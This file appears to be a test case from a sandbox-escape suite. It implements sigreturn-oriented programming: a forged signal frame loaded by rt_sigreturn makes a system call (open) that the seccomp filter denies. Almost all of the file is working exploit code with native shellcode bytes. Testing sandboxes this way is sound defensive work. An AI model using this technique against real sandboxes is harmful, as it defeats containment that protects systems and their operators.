// layer: seccomp
// attack: makes a system call through a forged signal frame (rt_sigreturn is allowed): all registers of its choice
// success: the call is made
// reference: sigreturn-oriented programming, Bosman and Bos 2014
// denied: open
// control: none: the process dies behind the call
// A frame on the stack that rt_sigreturn loads: rax = open, rip = `syscall; ud2` behind this code.
const registers = new BigUint64Array(160), path = bytes(`${target.open}\0`), stack = new Uint8Array(65536), end = new Uint8Array([0x0f, 5, 0x0f, 0x0b]);
const page = sys.mmap(0, 4096, 3, 0x22, -1, 0);
__native.write(page, end);
sys.mprotect(page, 4096, 5);
const g = 5; // uc_flags, uc_link, uc_stack (3) come first
registers[g + 8] = BigInt(__native.address(path)); // rdi
registers[g + 13] = BigInt(nr.open); // rax
registers[g + 15] = BigInt(__native.address(stack) + 32768); // rsp
registers[g + 16] = BigInt(page); // rip
registers[g + 17] = 0x202n; // flags
registers[g + 18] = 0x2b000000000033n; // cs, ss
// mov rsp, rdi; mov eax, 15; syscall
__native.run(new Uint8Array([0x48, 0x89, 0xfc, 0xb8, 15, 0, 0, 0, 0x0f, 5]), __native.address(registers));
export default escaped('it came back');
